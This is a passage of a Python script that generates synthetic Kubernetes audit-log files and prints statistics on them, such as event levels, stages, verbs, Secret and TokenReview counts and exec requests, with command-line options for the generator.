                    body_kind[ro.get("kind", "<patch object>")] += 1
                    if ro.get("kind") == "Secret" and "data" in ro:
                        n_secret_data += 1
                    if ro.get("kind") == "TokenReview" and ro["spec"].get("token"):
                        n_token += 1
            if "command=" in e.get("requestURI", ""):
                n_exec += 1
    pct = lambda x: f"{100.0 * x / max(n, 1):.2f}%"
    print(f"file: {path}\nlines: {n:,}  invalid JSON: {bad}  bytes/line: {os.path.getsize(path) / max(n, 1):,.0f}")
    print(
        "level:      "
        + ", ".join(f"{k} {pct(v)} ({size_by_level[k] / v / 1000:.2f} KB/line)" for k, v in level.most_common())
    )
    print("stage:      " + ", ".join(f"{k} {pct(v)}" for k, v in stage.most_common()))
    print("verb:       " + ", ".join(f"{k} {pct(v)}" for k, v in verbs.most_common()))
    print(f"requestObject: {pct(n_body)} of lines; JSON-patch arrays {pct(n_array)}; responseObject {pct(n_resp_obj)}")
    print("body kinds: " + ", ".join(f"{k} {v:,}" for k, v in body_kind.most_common()))
    print(
        f"secret create with data: {n_secret_data:,}  TokenReview with spec.token: {n_token:,}  "
        f"exec ?command=: {n_exec:,}  SA with pod-bound extra: {pct(n_extra_pod)}  impersonated: {n_imp:,}"
    )
    print("users:      " + ", ".join(f"{k} {pct(v)}" for k, v in user_kind.most_common()))
    print("dates:      " + ", ".join(f"{k} {v:,}" for k, v in sorted(dates.items())))
    orphans = len(rr_ids - rc_ids)
    print(
        f"auditIDs:   {len(rr_ids | rc_ids):,} unique; {len(rr_ids):,} RequestReceived, "
        f"{len(rr_ids & rc_ids):,} of them paired with a later stage, {orphans} orphans"
    )
    return {
        "lines": n,
        "invalid": bad,
        "levels": dict(level),
        "stages": dict(stage),
        "request_object": n_body,
        "json_patch_arrays": n_array,
        "unique_audit_ids": len(rr_ids | rc_ids),
        "dates": dict(sorted(dates.items())),
    }


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(
        description=__doc__.split("\n\n")[0], formatter_class=argparse.RawDescriptionHelpFormatter
    )
    ap.add_argument("n", type=int, help="number of lines (events) to write")
    ap.add_argument("out", help="output .jsonl path, a folder for small-files (written via OUT.tmp + rename)")
    ap.add_argument("--seed", type=int, default=42)
    ap.add_argument("--shape", choices=SHAPES, default="paired", help="see audit_lines() and generate()")
    ap.add_argument(
        "--unmatched", type=float, default=0.11, help="unmatched: share of lines that are cut-off early stages"
    )
    ap.add_argument("--files", type=int, default=SMALL_FILES, help="small-files: how many files")
    ap.add_argument("--stats", action="store_true", help="re-read the file, validate JSON and print the mix")
    ap.add_argument("--meta", action="store_true", help="also write OUT.meta.json (counts for the harness)")
    a = ap.parse_args(argv)
    t0 = time.perf_counter()
    meta = generate(a.n, a.out, a.seed, shape=a.shape, unmatched=a.unmatched, files=a.files)
    el = time.perf_counter() - t0
    meta["gen_seconds"] = round(el, 2)
    print(
        f"wrote {meta['lines']:,} lines, {meta['bytes']:,} bytes ({meta['bytes'] / max(a.n, 1):,.0f} B/line) "
        f"to {a.out} in {el:.1f} s; {meta['request_received_lines']:,} RequestReceived lines, "
        f"{meta['unique_audit_ids']:,} unique auditIDs, dates {meta['dates']}"
        + (f"; {meta['unmatched_early_stage_lines']:,} unmatched early-stage lines" if a.shape == "unmatched" else "")
        + (f"; {meta['watch_requests']:,} watches" if a.shape == "watch" else ""),
        file=sys.stderr,
    )
    if a.meta:
        with open(a.out + ".meta.json", "w") as f:
            json.dump(meta, f, indent=2)
    if a.stats and a.shape not in ("eks-pages", "small-files"):
        stats(a.out)
    return 0


if __name__ == "__main__":
    sys.exit(main())
